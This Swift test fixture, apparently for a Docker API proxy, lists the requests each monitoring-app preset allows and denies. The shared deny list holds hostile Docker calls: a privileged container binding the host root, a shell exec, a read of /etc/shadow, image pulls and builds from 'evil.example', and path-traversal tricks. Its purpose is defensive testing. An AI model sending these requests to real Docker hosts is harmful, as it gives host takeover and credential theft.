import Testing

/// What each application preset must let through, and what it must not: the app's own request sequence, read from
/// its source (cited per preset), and requests no such app needs. `PresetReplayTests` replays both through `serve`.
///
/// A request is `"METHOD target"`, optionally with a JSON body. Targets carry the API version prefix the app's
/// client sends: Go clients negotiate with an unversioned `HEAD /_ping` and then prefix every request; docker-py
/// asks `GET /version` unversioned; Uptime Kuma's axios calls are unversioned.
struct PresetReplay: Sendable, CustomTestStringConvertible {
    struct Request: Sendable {
        var line: String
        var body: String?

        init(_ line: String, body: String? = nil) {
            self.line = line
            self.body = body
        }

        var method: String { String(line.prefix { $0 != " " }) }
        var target: String { String(line.drop { $0 != " " }.dropFirst()) }
        var path: String { String(target.prefix { $0 != "?" }) }
    }

    var preset: String
    /// Where the sequence comes from.
    var source: String
    var allowed: [Request]
    var denied: [Request]

    var testDescription: String { preset }
}

extension PresetReplay {
    /// Requests that no read-only monitoring app sends: every one is refused by every such preset.
    static let neverForReaders: [Request] = [
        Request(
            "POST /v1.41/containers/create?name=x",
            body: #"{"Image":"busybox","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}"#
        ),
        Request("POST /v1.41/containers/abc/exec", body: #"{"Cmd":["sh"],"AttachStdin":true}"#),
        Request("POST /v1.41/exec/abc/start", body: #"{"Detach":false}"#),
        Request("POST /v1.41/containers/abc/stop"),
        Request("DELETE /v1.41/containers/abc?force=1"),
        Request("GET /v1.41/containers/abc/archive?path=/etc/shadow"),
        Request("GET /v1.41/containers/abc/export"),
        Request("POST /v1.41/images/create?fromImage=evil.example/x&tag=1"),
        Request("POST /v1.41/build?remote=https://evil.example/x.tar"),
        Request("GET /v1.41/secrets"),
        Request("POST /v1.41/swarm/init", body: #"{"ListenAddr":"0.0.0.0:2377"}"#),
        Request("GET /v1.41/images/get?names=busybox"),
        // Path tricks resolve to a refused route.
        Request("GET /v1.41/containers/json/../../secrets"),
        Request("GET /v1.41/containers/%2e%2e/secrets"),
    ]

    /// Reading a container's logs or stats, refused where the app never reads them.
    static let logsAndStats: [Request] = [
        Request("GET /v1.41/containers/abc/logs?follow=1&stdout=1&stderr=1"),
        Request("POST /v1.41/containers/abc/attach?stream=1&stdout=1"),
    ]

    static let all: [PresetReplay] = [
        PresetReplay(
            preset: "dozzle",
            source: "amir20/dozzle internal/docker/client.go (ListContainers, FindContainer, ContainerLogs, "
                + "ContainerEvents, ContainerStats, Host), container_store.go",
            allowed: [
                Request("HEAD /_ping"),
                Request("GET /v1.41/info"),
                Request(#"GET /v1.41/containers/json?all=1&filters={"label":["app=web"]}"#),
                Request("GET /v1.41/containers/abc/json"),
                Request("GET /v1.41/events"),
                Request("GET /v1.41/containers/abc/stats?stream=1"),
                Request(
                    "GET /v1.41/containers/abc/logs?follow=1&since=1700000000.000000000&stderr=1&stdout=1&tail=100&timestamps=1"
                ),
                Request(
                    "GET /v1.41/containers/abc/logs?since=1700000000.0&until=1700003600.0&stderr=1&stdout=1&timestamps=1"
                ),
                Request("GET /_ping"),
            ],
            denied: neverForReaders + [
                // DOZZLE_ENABLE_ACTIONS and DOZZLE_ENABLE_SHELL are not granted.
                Request("POST /v1.41/containers/abc/restart"),
                Request("POST /v1.41/containers/abc/attach?stderr=1&stdin=1&stdout=1&stream=1"),
                Request("POST /v1.41/exec/abc/resize?h=40&w=100"),
            ]
        ),
        PresetReplay(
            preset: "uptime-kuma",
            source: "louislam/uptime-kuma server/docker.js (testDockerHost), server/model/monitor.js (type docker)",
            allowed: [
                Request("GET /containers/json?all=true"),
                Request("GET /containers/my-app/json"),
            ],
            denied: neverForReaders + logsAndStats + [
                Request("GET /v1.41/info"),
                Request("GET /v1.41/events"),
                Request("GET /v1.41/images/json"),
            ]
        ),
        PresetReplay(
            preset: "netdata",
            source: "netdata/netdata src/go/plugin/go.d/collector/docker/collect.go, "
                + "discovery/sd/discoverer/dockersd/docker.go, src/collectors/cgroups.plugin/cgroup-name.sh.in",
            allowed: [
                Request("HEAD /_ping"),
                Request("GET /v1.41/info"),
                Request(#"GET /v1.41/containers/json?all=1&filters={"health":["healthy"]}"#),
                Request(#"GET /v1.41/containers/json?all=1&filters={"health":["none"]}&size=1"#),
                Request("GET /v1.41/images/json"),
                Request("GET /v1.41/containers/json"),
                Request("GET /containers/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef/json"),
            ],
            denied: neverForReaders + logsAndStats + [Request("GET /v1.41/events")]
        ),
        PresetReplay(
            preset: "crowdsec",
            source: "crowdsecurity/crowdsec pkg/acquisition/modules/docker/run.go, source.go",
            allowed: [
                Request("HEAD /_ping"),
                Request("GET /v1.41/info"),
                Request("GET /v1.41/containers/json"),
                Request("GET /v1.41/containers/abc/json"),
                Request(#"GET /v1.41/events?filters={"type":{"container":true,"service":false}}"#),
                Request("GET /v1.41/containers/abc/logs?follow=1&since=2026-12-08T00:00:00Z&stderr=1&stdout=1"),
                Request("GET /v1.41/services"),
                Request("GET /v1.41/services/svc1"),
                Request("GET /v1.41/services/svc1/logs?follow=1&stderr=1&stdout=1"),
            ],
            denied: neverForReaders + [
                Request("GET /v1.41/containers/abc/stats?stream=1"),
                Request("POST /v1.41/services/svc1/update?version=1", body: #"{"Name":"svc1"}"#),
            ]
        ),
        PresetReplay(
            preset: "promtail-alloy",
            source: "grafana/loki clients/pkg/promtail/targets/docker/target.go, target_group.go; grafana/alloy "
                + "internal/component/loki/source/docker/docker.go, tailer.go; prometheus/prometheus "
                + "discovery/moby/docker.go, network.go",
            allowed: [
                Request("HEAD /_ping"),
                Request(#"GET /v1.41/containers/json?filters={"label":["logging=promtail"]}"#),
                Request("GET /v1.41/networks"),
                Request("GET /v1.41/containers/abc/json"),
                Request("GET /v1.41/containers/abc/logs?follow=1&since=1700000000&stderr=1&stdout=1&timestamps=1"),
            ],
            denied: neverForReaders + [
                Request("GET /v1.41/containers/abc/stats?stream=1"),
                Request("GET /v1.41/info"),
            ]
        ),
        PresetReplay(
            preset: "prometheus-docker-sd",
            source: "prometheus/prometheus discovery/moby/docker.go (refresh), network.go (getNetworksLabels), "
                + "dockerswarm.go",
            allowed: [
                Request("HEAD /_ping"),
                Request("GET /v1.41/containers/json"),
                Request(#"GET /v1.41/containers/json?filters={"label":["prometheus.io/scrape=true"]}"#),
                Request("GET /v1.41/networks"),
                Request("GET /v1.41/services"),
                Request("GET /v1.41/tasks"),
                Request("GET /v1.41/nodes"),
            ],
            denied: neverForReaders + logsAndStats + [Request("GET /v1.41/containers/abc/json")]
        ),
        PresetReplay(
            preset: "glances",
            source: "nicolargo/glances glances/plugins/containers/engines/docker.py (docker-py: "
                + "DockerClient.version, containers.list, container.stats, image.tags)",
            allowed: [
                Request("GET /version"),
                Request("GET /v1.41/containers/json?limit=-1&all=0&size=0&trunc_cmd=0"),
                Request("GET /v1.41/containers/abc/json"),
                Request("GET /v1.41/containers/abc/stats?stream=True"),
                Request("GET /v1.41/images/sha256:0123456789abcdef/json"),
            ],
            denied: neverForReaders + [
                Request("GET /v1.41/containers/abc/logs?follow=1&stdout=1&stderr=1"),
                Request("GET /v1.41/events"),
            ]
        ),
    ]
}
